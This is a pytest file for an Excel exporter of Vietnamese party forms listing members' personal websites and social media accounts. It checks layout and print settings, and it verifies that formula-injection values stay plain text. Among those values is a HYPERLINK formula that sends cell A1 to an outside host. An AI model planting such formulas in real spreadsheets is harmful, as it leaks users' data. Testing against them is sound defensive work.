"""Ensure that forms 1 and 2 are written exactly as the directive prints them, and that no
value can become a formula or a link (pure writers, no database)."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from exports import FORM1, FORM2, ExportError, TitleBlock, form_cells, write_form
from exports.layouts import place_line
from models.organisation import title_defaults

BLOCK = TitleBlock(superior="ĐẢNG BỘ HUYỆN VĨNH BẢO", organisation="ĐẢNG ỦY XÃ AN HÒA", place="An Hòa",
                   signed_on=dt.date(2026, 11, 23), as_of=dt.date(2026, 11, 20), signer="T/M BAN THƯỜNG VỤ",
                   signer_name="Nguyễn Văn Bình")

# Typed from DOMAIN.md, not imported from the layouts, so that a drifting layout fails here.
FORM1_HEADERS = ["STT", "Chi bộ", "Họ và tên", "Cấp bậc, chức vụ", "Tên trang web/blog", "Tên miền",
                 "IP máy chủ/vị trí địa lý", "Số điện thoại đăng ký", "Email đăng ký", "Thời gian thiết lập",
                 "Thời hạn hết hạn", "Thời gian cập nhật cơ sở dữ liệu", "Mục đích sử dụng"]
FORM2_HEADERS = ["STT", "Chi bộ", "Họ và tên", "Cấp bậc, chức vụ", "Loại mạng xã hội", "Tên tài khoản",
                 "Đường dẫn (Cá nhân/Trang/Hội nhóm...)", "Số điện thoại đăng ký", "Email đăng ký",
                 "Thời gian thiết lập", "Thời gian cập nhật cơ sở dữ liệu", "Mục đích sử dụng"]
HOSTILE = ['=HYPERLINK("http://x/?"&A1,"c")', "@SUM(1)", "+1", "-1+1", "\t=1", "{=1+1}", "http://evil"]
HEADER_ROW = 7


def social_row(**kw: object) -> dict:
    row = {"org_name": "Chi bộ thôn 1", "member_name": "Nguyễn Văn An", "position": "Đảng viên",
           "platform": "Facebook", "account_name": "An Nguyễn", "url": "https://www.facebook.com/nguyenvanan",
           "registration_phone": "0912345678", "registration_email": "an@example.com",
           "established_on": dt.datetime(2020, 5, 1), "updated_on": dt.datetime(2026, 11, 2), "purpose": "Tuyên truyền"}
    row.update(kw)
    return row


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def assert_no_formula_or_link(path: Path) -> None:
    """No formula element and no hyperlink element (text is XML-escaped, so tags cannot hide in it)."""
    xml = sheet_xml(path)
    assert not re.search(r"<f[ >/]", xml)
    assert "<hyperlink" not in xml
    with zipfile.ZipFile(path) as z:
        assert not any("worksheets/_rels" in n for n in z.namelist())


def test_form2_title_block_headers_and_numbering(tmp_path: Path) -> None:
    """Ensure that the title block, the exact headers and the (1)…(12) row are as printed."""
    path = tmp_path / "f2.xlsx"
    write_form(path, FORM2, BLOCK, [social_row()])
    ws = openpyxl.load_workbook(path).active
    assert ws["A1"].value == "ĐẢNG BỘ HUYỆN VĨNH BẢO"
    assert ws["A2"].value == "ĐẢNG ỦY XÃ AN HÒA" and ws["A2"].font.b
    right = [c.value for c in ws[1] if c.value and c.column > 6] + [c.value for c in ws[2] if c.value and c.column > 6]
    assert right == ["ĐẢNG CỘNG SẢN VIỆT NAM", "An Hòa, ngày 23 tháng 11 năm 2026"]
    assert ws["A3"].value == "*"
    assert ws["A4"].value == "DANH SÁCH TÀI KHOẢN MẠNG XÃ HỘI CÁ NHÂN CỦA CÁN BỘ, ĐẢNG VIÊN"
    assert ws["A5"].value == "(Cập nhật đến ngày 20 tháng 11 năm 2026)"
    assert [c.value for c in ws[HEADER_ROW]] == [*FORM2_HEADERS, "Mã bản ghi (không in)"]  # hidden, not printed
    assert ws.column_dimensions["M"].hidden
    assert [c.value for c in ws[HEADER_ROW + 1]][:12] == [f"({i})" for i in range(1, 13)]
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"A4:L4", "A5:L5"} <= merged


def test_form1_has_thirteen_official_columns(tmp_path: Path) -> None:
    path = tmp_path / "f1.xlsx"
    row = {"org_name": "Chi bộ thôn 1", "member_name": "Nguyễn Văn An", "position": "Bí thư",
           "site_name": "Blog An", "domain": "nguyenvanan.blogspot.com", "server_location": "1.1.1.2/Mỹ",
           "registration_phone": "0912345678", "established_on": dt.datetime(2019, 1, 2),
           "expires_on": dt.datetime(2027, 1, 2), "updated_on": dt.datetime(2026, 3, 4), "purpose": "Tuyên truyền"}
    assert write_form(path, FORM1, BLOCK, [row]) == 1
    ws = openpyxl.load_workbook(path).active
    assert ws["A4"].value == "DANH SÁCH CÁC TRANG WEB, BLOG CÁ NHÂN CỦA CÁN BỘ, ĐẢNG VIÊN"
    assert [c.value for c in ws[HEADER_ROW]] == [*FORM1_HEADERS, "Mã bản ghi (không in)"]
    assert [c.value for c in ws[HEADER_ROW + 1]][:13] == [f"({i})" for i in range(1, 14)]
    data = [c.value for c in ws[HEADER_ROW + 2]][:13]  # a 14th, hidden, holds the record id (none here)
    assert data == [1, "Chi bộ thôn 1", "Nguyễn Văn An", "Bí thư", "Blog An", "nguyenvanan.blogspot.com",
                    "1.1.1.2/Mỹ", "0912345678", None, "02/01/2019", "02/01/2027", "04/03/2026", "Tuyên truyền"]


def test_stt_dates_and_phones_are_written_as_printed(tmp_path: Path) -> None:
    """Ensure STT runs 1..n, dates are dd/mm/yyyy text and phones keep their leading zero."""
    path = tmp_path / "f2.xlsx"
    rows = [social_row(member_name=f"Người {i}", registration_phone="0312345678") for i in range(5)]
    write_form(path, FORM2, BLOCK, rows)
    ws = openpyxl.load_workbook(path).active
    data = list(ws.iter_rows(min_row=HEADER_ROW + 2, max_row=HEADER_ROW + 6, values_only=True))
    assert [r[0] for r in data] == [1, 2, 3, 4, 5]
    assert {r[7] for r in data} == {"0312345678"}
    assert {r[9] for r in data} == {"01/05/2020"} and {r[10] for r in data} == {"02/11/2026"}
    cell = ws.cell(HEADER_ROW + 2, 8)
    assert cell.data_type == "s"


def test_print_settings_font_wrap_and_borders(tmp_path: Path) -> None:
    """Ensure A4 landscape, fit to width, header rows repeated, Times New Roman, wrap and borders."""
    path = tmp_path / "f2.xlsx"
    write_form(path, FORM2, BLOCK, [social_row()] * 3)
    ws = openpyxl.load_workbook(path).active
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.paperSize == 9
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.fitToWidth in (1, None) and ws.page_setup.fitToHeight == 0
    assert ws.print_title_rows == "$7:$8"
    for cell in (ws["A1"], ws.cell(HEADER_ROW, 3), ws.cell(HEADER_ROW + 2, 7)):
        assert cell.font.name == "Times New Roman"
    data = ws.cell(HEADER_ROW + 2, 7)
    assert data.alignment.wrap_text and data.border.left.style == "thin" and data.border.bottom.style == "thin"
    values = [c.value for row in ws.iter_rows(min_row=HEADER_ROW + 5) for c in row if c.value]
    assert values[:3] == ["Tổng cộng: 3 tài khoản", "NGƯỜI LẬP BIỂU", "T/M BAN THƯỜNG VỤ"] and "BÍ THƯ" in values
    assert values[-1] == "Nguyễn Văn Bình"  # the configured signer's name, under the space to sign


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("field", ["member_name", "account_name", "url", "registration_phone", "purpose"])
def test_hostile_values_stay_text(tmp_path: Path, field: str, value: str) -> None:
    """Ensure a value shaped like a formula or a link is written as plain text."""
    path = tmp_path / "evil.xlsx"
    write_form(path, FORM2, BLOCK, [social_row(**{field: value})])
    assert_no_formula_or_link(path)
    ws = openpyxl.load_workbook(path).active
    col = FORM2_HEADERS.index({"member_name": "Họ và tên", "account_name": "Tên tài khoản",
                               "url": "Đường dẫn (Cá nhân/Trang/Hội nhóm...)",
                               "registration_phone": "Số điện thoại đăng ký", "purpose": "Mục đích sử dụng"}[field])
    cell = ws.cell(HEADER_ROW + 2, col + 1)
    assert cell.value == value and cell.data_type == "s"


def test_hostile_organisation_names_in_title_block(tmp_path: Path) -> None:
    path = tmp_path / "evil.xlsx"
    block = TitleBlock("=HYPERLINK(\"http://x\")", "{=1+1}", "@SUM(1)", dt.date(2026, 1, 2), dt.date(2026, 1, 2),
                       "T/M CHI BỘ")
    write_form(path, FORM1, block, [])
    assert_no_formula_or_link(path)
    assert openpyxl.load_workbook(path).active["A2"].value == "{=1+1}"


def test_value_over_excel_cell_limit_is_reported(tmp_path: Path) -> None:
    """Ensure a value longer than 32,767 characters raises a clear error instead of being cut."""
    with pytest.raises(ExportError, match="32.767"):
        write_form(tmp_path / "long.xlsx", FORM2, BLOCK, [social_row(purpose="x" * 32768)])
    write_form(tmp_path / "ok.xlsx", FORM2, BLOCK, [social_row(purpose="x" * 32767)])
    assert len(openpyxl.load_workbook(tmp_path / "ok.xlsx").active.cell(HEADER_ROW + 2, 12).value) == 32767


def test_rows_stream_in_the_given_order() -> None:
    rows = [social_row(member_name="B", established_on=None), social_row(member_name="A", updated_on=None)]
    cells = list(form_cells(FORM2, rows))
    assert [c[1] for c in cells] == ["B", "A"]
    assert cells[0][8] == "" and cells[1][9] == ""


@pytest.mark.parametrize(("kind", "name", "party", "issuer", "place"), [
    ("committee", "Huyện ủy Vĩnh Bảo", "ĐẢNG BỘ HUYỆN VĨNH BẢO", "HUYỆN ỦY VĨNH BẢO", "Vĩnh Bảo"),
    ("committee", "Thành ủy Hải Phòng", "ĐẢNG BỘ THÀNH PHỐ HẢI PHÒNG", "THÀNH ỦY HẢI PHÒNG", "Hải Phòng"),
    ("committee", "Đảng bộ xã Tân Hưng", "ĐẢNG BỘ XÃ TÂN HƯNG", "ĐẢNG ỦY XÃ TÂN HƯNG", "Tân Hưng"),
    ("committee", "Đảng bộ Thị trấn Vĩnh Bảo", "ĐẢNG BỘ THỊ TRẤN VĨNH BẢO", "ĐẢNG ỦY THỊ TRẤN VĨNH BẢO", "Vĩnh Bảo"),
    ("cell", "Chi bộ thôn 1", "CHI BỘ THÔN 1", "CHI BỘ THÔN 1", "Tân Hưng"),
])
def test_title_names_default_per_kind_of_unit(kind: str, name: str, party: str, issuer: str, place: str) -> None:
    """Ensure that a new unit's stored title names default to its kind's: a commune issues as its
    Đảng ủy, is named as its Đảng bộ above its cells, and dates with its own place."""
    names = title_defaults(kind, name, "Tân Hưng")
    assert (names["party_name"], names["issuer_name"], names["place"]) == (party, issuer, place)
    assert names["signer_for"] == ("T/M CHI BỘ" if kind == "cell" else "T/M BAN THƯỜNG VỤ")


def test_place_line_pads_day_and_month() -> None:
    assert place_line("Vĩnh Bảo", dt.date(2026, 3, 5)) == "Vĩnh Bảo, ngày 05 tháng 03 năm 2026"
    assert re.fullmatch(r"Ngày 05 tháng 03 năm 2026", place_line(None, dt.date(2026, 3, 5)))


def test_rows_grow_with_wrapped_text(tmp_path: Path) -> None:
    """Ensure long texts get taller rows (LibreOffice does not grow rows of a loaded file)."""
    path = tmp_path / "f2.xlsx"
    write_form(path, FORM2, BLOCK, [social_row(), social_row(position="Chi hội trưởng Hội Nông dân kiêm Trưởng thôn")])
    ws = openpyxl.load_workbook(path).active
    assert ws.row_dimensions[HEADER_ROW].height >= 30
    assert ws.row_dimensions[HEADER_ROW + 2].height is None
    assert ws.row_dimensions[HEADER_ROW + 3].height >= 30
